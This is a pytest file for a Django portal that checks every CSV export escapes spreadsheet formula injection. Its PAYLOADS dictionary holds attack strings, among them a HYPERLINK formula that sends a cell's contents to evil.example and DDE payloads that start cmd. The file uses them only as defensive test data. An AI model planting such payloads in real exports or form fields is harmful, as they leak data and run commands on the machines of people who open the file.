"""CSV injection: every CSV the portal writes goes through core.csv_export, which neutralises
cells a spreadsheet would run as a formula (OWASP: a leading = + - @, tab or carriage return)."""

import ast
import csv
import functools
import io
import os
import re
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from core.csv_export import FORMULA_STARTS, csv_response, neutralise, safe_writer

ROOT = Path(settings.BASE_DIR)
WRITER_MODULE = ROOT / "core" / "csv_export.py"

# What an attacker types into a text field that ends up in an export.
PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take for a formula (a plain negative number is data)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


# --- The writer -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(payload):
    out = StringIO()
    safe_writer(out).writerow([payload, "Huddinge kommun"])
    [[cell, plain]] = _rows(out.getvalue())
    assert cell == "'" + payload
    assert plain == "Huddinge kommun"


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not():
    out = StringIO()
    writer = safe_writer(out)
    writer.writerows(
        [
            [-500, Decimal("-1234.50"), -0.5, 0, True, None, ""],
            ["-500", "2026-01-01", "a=b", " =1+1", "Säkerhetschef"],
        ]
    )
    numbers, texts = _rows(out.getvalue())
    assert numbers == ["-500", "-1234.50", "-0.5", "0", "True", "", ""]
    assert texts == ["'-500", "2026-01-01", "a=b", " =1+1", "Säkerhetschef"]


def test_neutralise_reads_lazy_text_as_text():
    from django.utils.translation import gettext_lazy

    assert neutralise(gettext_lazy("=1+1")) == "'=1+1"
    assert neutralise(Decimal("-3")) == Decimal("-3")


def test_csv_response_is_an_excel_ready_download():
    response, writer = csv_response("beslut.csv")
    writer.writerow(["=1+1"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="beslut.csv"'
    assert response.content.decode("utf-8") == "\ufeff'=1+1\r\n"


# --- No other writer --------------------------------------------------------------------------

SKIPPED_DIRS = {"tests", "migrations", "node_modules", "media", "static", "test-artifacts"}
SKIPPED_DIRS |= {"__pycache__", "venv"}


@functools.cache
def _portal_sources() -> list[Path]:
    """The portal's Python files (the virtualenv, tests and migrations pruned, not walked)."""
    sources = []
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = [
            d
            for d in dirs
            if not (d.startswith(".") or d in SKIPPED_DIRS or d.endswith(".egg-info"))
        ]
        sources += [Path(folder) / f for f in files if f.endswith(".py")]
    return sources


def _raw_csv_writers(tree: ast.AST) -> list[int]:
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            lines.append(node.lineno)
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and {a.name for a in node.names} & {"writer", "DictWriter", "*"}
        ):
            lines.append(node.lineno)
    return lines


def test_no_csv_is_written_outside_the_safe_writer():
    """A new export must use core.csv_export, not csv.writer/csv.DictWriter."""
    sources = _portal_sources()
    assert ROOT / "forums" / "views" / "meetings.py" in sources  # the scan does read the apps
    found = [
        f"{path.relative_to(ROOT)}:{line}"
        for path in sources
        if path != WRITER_MODULE
        for line in _raw_csv_writers(ast.parse(path.read_text(encoding="utf-8")))
    ]
    assert found == [], "write CSV with core.csv_export.safe_writer/csv_response"


def test_the_scan_would_find_a_raw_writer():
    assert _raw_csv_writers(ast.parse("import csv\nw = csv.writer(out)\n")) == [2]
    assert _raw_csv_writers(ast.parse("from csv import DictWriter\n")) == [1]
    assert _raw_csv_writers(ast.parse("import csv\nr = csv.reader(lines)\n")) == []


def test_core_imports_no_portal_app():
    apps = {"actors", "forums", "incidents", "membership", "notifications", "planning"}
    apps |= {"ssr_portal", "bench", "tests"}
    for path in (ROOT / "core").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            modules = []
            if isinstance(node, ast.Import):
                modules = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                modules = [node.module]
            assert not {m.split(".")[0] for m in modules} & apps, path


# --- Every export of the portal ---------------------------------------------------------------


def _exports_in_the_code() -> set[str]:
    """Every function that writes CSV, as "path:function" (found by its call to the writer)."""
    found = set()
    for path in _portal_sources():
        if path == WRITER_MODULE:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef):
                continue
            for node in ast.walk(function):
                if isinstance(node, ast.Call):
                    name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                    if name in {"csv_response", "safe_writer"}:
                        found.add(f"{path.relative_to(ROOT).as_posix()}:{function.name}")
    return found


@pytest.fixture
def poisoned(world, secretariat_user):
    """The world of tests/world.py with a payload in every text an export writes."""
    from actors.models import Actor, Function
    from forums import services as forum_services
    from forums.models import Forum
    from incidents import services as incident_services
    from incidents.models import EventType, Incident
    from tests.conftest import verified_login
    from tests.factories import MeetingFactory

    meeting = MeetingFactory(forum=world["forum"], title=PAYLOADS["plus"])
    item = forum_services.agenda_item_add(meeting=meeting, title=PAYLOADS["at"])
    forum_services.decision_add(meeting=meeting, text=PAYLOADS["equals"], agenda_item=item)
    forum_services.attendance_record(
        meeting=meeting, entries={world["seat"].pk: ("present", PAYLOADS["tab"])}
    )
    Actor.objects.filter(pk=world["actor"].pk).update(name=PAYLOADS["equals"])
    Function.objects.filter(pk=world["seat"].function_id).update(name=PAYLOADS["minus"])

    incident = world["incident"]
    rkk = world["rkk"]
    rkk.first_name, rkk.last_name = PAYLOADS["plus"], "Test"
    rkk.save(update_fields=["first_name", "last_name"])
    incident_services.log_note(incident=incident, by=rkk, text=PAYLOADS["at"])
    Incident.objects.filter(pk=incident.pk).update(title=PAYLOADS["minus"])
    EventType.objects.filter(pk=incident.event_type_id).update(name=PAYLOADS["equals"])
    Forum.objects.filter(pk=world["forum"].pk).update(name=PAYLOADS["cr"])

    users = (secretariat_user, world["user"], world["rsib"], rkk)
    return world, [verified_login(Client(), user) for user in users]


# "path:function" -> (URL name and kwargs from the world, or None for the command; the payloads
# that export must write, neutralised).
EXPORTS = {
    "forums/views/forums.py:decisions_csv": (
        ("forums:decisions_csv", lambda w: {"pk": w["forum"].pk}),
        ["equals", "plus"],
    ),
    "forums/views/meetings.py:attendance_csv": (
        ("forums:attendance_csv", lambda w: {"pk": w["meeting"].pk}),
        ["equals", "minus"],
    ),
    "incidents/views.py:incident_log_csv": (
        ("incidents:incident_log_csv", lambda w: {"pk": w["incident"].pk}),
        ["plus", "at"],
    ),
    "incidents/views.py:register_csv": (
        ("incidents:register_csv", lambda w: {}),
        ["minus", "equals", "cr"],
    ),
    "incidents/register_views.py:statistics_csv": (
        ("incidents:statistics_csv", lambda w: {}),
        ["equals"],
    ),
    "membership/views.py:csv_download": (
        ("membership:csv", lambda w: {"year": w["year"]}),
        ["equals"],
    ),
    "membership/management/commands/invoice_run.py:handle": (None, ["equals"]),
}


def test_every_export_is_tested_for_injection():
    assert _exports_in_the_code() == set(EXPORTS), "add the new CSV export to EXPORTS"


def _download(url: str, clients: list[Client]) -> str:
    for client in clients:  # the first role allowed to download it
        response = client.get(url)
        if response.status_code == 200:
            assert response["Content-Type"].startswith("text/csv")
            return response.content.decode("utf-8")
    pytest.fail(f"nobody may download {url}")


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_every_export_neutralises_formulas(export, poisoned):
    world, clients = poisoned
    page, expected = EXPORTS[export]
    if page is None:  # the invoice run preview: `manage.py invoice_run 2027 --preview --format csv`
        from membership.models import FeeSchedule

        FeeSchedule.objects.create(year=2027, approved_on=world["fee_schedule"].approved_on)
        out = StringIO()
        call_command(
            "invoice_run", "2027", "--preview", "--format", "csv", stdout=out, stderr=StringIO()
        )
        text = out.getvalue()
    else:
        name, kwargs = page
        text = _download(reverse(name, kwargs=kwargs(world)), clients)
    rows = _rows(text)
    assert _formula_cells(rows) == []
    cells = {cell for row in rows for cell in row}
    for key in expected:  # the payload did reach the export, neutralised
        assert any(cell.startswith("'" + PAYLOADS[key]) for cell in cells), (key, rows)
